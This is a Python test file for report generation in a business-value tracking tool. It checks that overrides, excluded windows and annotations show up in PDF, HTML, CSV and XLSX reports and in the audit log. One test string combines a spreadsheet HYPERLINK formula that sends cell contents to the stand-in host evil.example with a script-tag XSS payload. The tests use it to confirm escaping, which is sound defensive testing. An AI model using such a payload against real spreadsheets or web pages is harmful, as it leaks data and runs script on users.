"""Overrides, excluded windows and annotations in every report format (issue 17): an override agreed
with finance shows in the PDF (read with pdftotext), the HTML, the CSV and the XLSX beside the
unadjusted figures, with how much comes from it; it is in the audit log; once withdrawn the next
report no longer counts it. Its hostile reason is escaped in HTML/PDF and never a formula in CSV/XLSX."""

from __future__ import annotations

import html
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest

from tests.reports.test_reports import AS_OF, pdf_text, report
from valuetrack.reports.render import money_exact

MONTH = "2026-04"
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click") <script>alert(1)</script>'


@pytest.fixture
def in_copy(demo_builder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    src = demo_builder(0.1, AS_OF)
    dest = tmp_path / "demo"
    shutil.copytree(src, dest)
    monkeypatch.chdir(dest)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    monkeypatch.setenv("VALUETRACK_USER", "finance@example.com")
    yield dest
    from valuetrack.store.db import dispose_all

    dispose_all()


def test_an_override_is_in_every_format_and_the_audit_log_and_can_be_withdrawn(in_copy: Path, cli) -> None:
    assert shutil.which("pdftotext")
    r = cli("notes", "override", "homepage-recs", "--amount", "4321.09", "--on", f"{MONTH}-10", "--reason", EVIL,
            "--as-of", AS_OF, "--json", schema="notes_override")
    assert r.code == 0, r.err
    note_id = r.json["note"]["id"]
    assert cli("notes", "exclude", "homepage-recs", "--from", f"{MONTH}-03", "--to", f"{MONTH}-04", "--reason",
               "tracking bug", "--json", schema="notes_exclude").code == 0
    assert cli("notes", "annotate", "homepage-recs", "--on", f"{MONTH}-01", "--text", "spring campaign",
               "--category", "campaign", "--json", schema="notes_annotate").code == 0
    value = cli("value", "--month", MONTH, "--as-of", AS_OF, "--json", schema="value").json
    m = next(x for x in value["models"] if x["model"] == "homepage-recs")
    cur = value["currency"]
    assert m["override_amount"] == pytest.approx(4321.09) and m["net_adjusted"] == pytest.approx(m["net"] + 4321.09)
    assert value["totals"]["override_amount"] == pytest.approx(4321.09)
    assert value["totals"]["net_adjusted"] == pytest.approx(value["totals"]["net"] + 4321.09)

    out = {fmt: in_copy / f"april.{fmt}" for fmt in ("pdf", "html", "csv", "xlsx")}
    for fmt, path in out.items():
        report(cli, MONTH, fmt, path, "--as-of", AS_OF)

    text = pdf_text(out["pdf"])
    for figure in (money_exact(4321.09, cur), money_exact(m["net_adjusted"], cur), money_exact(m["net"], cur),
                   money_exact(value["totals"]["net_adjusted"], cur)):
        assert figure in text, figure
    assert "Overrides agreed with finance" in text and "Total net value, adjusted" in text
    assert "<script>alert(1)</script>" in text  # as typed, as text
    assert "Excluded windows" in text and "tracking bug" in text and "Without it" in text
    assert "spring campaign" in text and "Campaign on 2026-04-01" in text

    page = out["html"].read_text()
    assert "<script>alert(1)" not in page and html.escape("<script>alert(1)</script>", quote=False) in page
    assert money_exact(4321.09, cur) in page and money_exact(m["net_adjusted"], cur) in page

    frame = pd.read_csv(out["csv"], dtype={"note": str})
    rows = frame[frame["model"] == "homepage-recs"].set_index("metric")
    assert float(rows.loc["override_amount", "value"]) == pytest.approx(4321.09)
    assert float(rows.loc["net_adjusted", "value"]) == pytest.approx(m["net_adjusted"])
    assert float(rows.loc["net", "value"]) == pytest.approx(m["net"])
    assert float(rows.loc[f"override_{note_id}", "value"]) == pytest.approx(4321.09)
    assert EVIL in rows.loc[f"override_{note_id}", "note"]
    assert not any(str(c).startswith(("=", "+", "-", "@")) and not str(c).lstrip("-").replace(".", "").isdigit()
                   for c in frame["note"].dropna())
    portfolio = frame[frame["model"] == "(portfolio)"].set_index("metric")
    assert float(portfolio.loc["override_amount", "value"]) == pytest.approx(4321.09)

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(out["xlsx"].read_bytes()))
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert summary["From overrides agreed with finance"] == pytest.approx(4321.09)
    assert summary["Total net value, adjusted"] == pytest.approx(value["totals"]["net_adjusted"])
    sheet = wb["homepage-recs"]
    cells = [(r[0], r[1]) for r in sheet.iter_rows(values_only=True) if r and r[0]]
    lines = dict(cells)
    assert lines["Net value, adjusted"] == pytest.approx(m["net_adjusted"])
    assert any(str(k).startswith(f"#{note_id} Override") and v == EVIL for k, v in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]  # text, never a formula

    # the audit log has it, with who and why
    shown = cli("models", "show", "homepage-recs", "--json", schema="models_show").json
    audit = [a for a in shown["audit"] if a["action"] == "override"]
    assert audit and audit[0]["actor"] == "finance@example.com" and audit[0]["note"] == EVIL

    # withdrawn: the next report no longer counts it, and says nothing of it
    assert cli("notes", "withdraw", str(note_id), "--reason", "booked twice", "--json", schema="notes_withdraw").code == 0
    # April's report is final (D34): the withdrawal waits as a pending restatement until it is applied
    after = cli("value", "--month", MONTH, "--as-of", AS_OF, "--json", schema="value").json
    m2 = next(x for x in after["models"] if x["model"] == "homepage-recs")
    assert m2["override_amount"] == pytest.approx(4321.09)
    pending = {d["model"]: d for d in after["pending_restatement"]["models"]}
    assert pending["homepage-recs"]["override_before"] == pytest.approx(4321.09)
    assert pending["homepage-recs"]["override_after"] == 0.0
    report(cli, MONTH, "csv", in_copy / "again.csv", "--as-of", AS_OF, "--restate", "--reason", "override withdrawn")
    after = cli("value", "--month", MONTH, "--as-of", AS_OF, "--json", schema="value").json
    m2 = next(x for x in after["models"] if x["model"] == "homepage-recs")
    assert m2["override_amount"] == 0.0 and m2["net_adjusted"] == m2["net"] and after["final"]["version"] == 2
    again = pd.read_csv(in_copy / "again.csv").set_index(["model", "metric"])
    assert float(again.loc[("homepage-recs", "override_amount"), "value"]) == 0.0
    assert ("homepage-recs", f"override_{note_id}") not in again.index
    shown = cli("models", "show", "homepage-recs", "--json", schema="models_show").json
    assert shown["audit"][0]["action"] == "withdraw" and shown["audit"][0]["note"] == "booked twice"


def test_the_manifests_annotations_are_listed_and_drawn_in_every_format(in_copy: Path, cli) -> None:
    """A manifest's own `annotations` (a new model version) are in the report as the model page draws
    them: listed (m1, m2 ...) in the PDF, the HTML, the CSV and the XLSX (the charts mark the listed
    notes); one dated after the month is not. Its hostile label is escaped."""
    import dataclasses
    import datetime as dt

    from valuetrack.actions import save
    from valuetrack.context import open_context
    from valuetrack.registry.spec import Annotation

    ctx = open_context()
    reg = ctx.registry.get("homepage-recs")
    save(ctx, dataclasses.replace(reg.spec, annotations=(Annotation(dt.date(2026, 4, 9), "MLflow version 4 " + EVIL),
                                                         Annotation(dt.date(2026, 5, 20), "MLflow version 5"))),
         expected_revision=reg.revision)
    for fmt in ("pdf", "html", "csv", "xlsx"):
        report(cli, MONTH, fmt, in_copy / f"r.{fmt}", "--as-of", AS_OF)
    assert "Release on 2026-04-09" in pdf_text(in_copy / "r.pdf") and "MLflow version 4" in pdf_text(in_copy / "r.pdf")
    doc = (in_copy / "r.html").read_text(encoding="utf-8")
    assert "#m1 Release on 2026-04-09" in doc and "&lt;script&gt;alert(1)&lt;/script&gt;" in doc and "<script>alert" not in doc
    assert "version 5" not in doc
    frame = pd.read_csv(in_copy / "r.csv", dtype=str, keep_default_na=False)
    mine = frame[(frame["model"] == "homepage-recs") & (frame["metric"] == "annotation_m1")]
    assert len(mine) == 1 and "MLflow version 4" in mine["note"].iloc[0] and "the manifest" in mine["note"].iloc[0]
    import openpyxl

    cells = [c.value for s in openpyxl.load_workbook(in_copy / "r.xlsx").worksheets for row in s.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("#m1 Release on 2026-04-09") for v in cells)
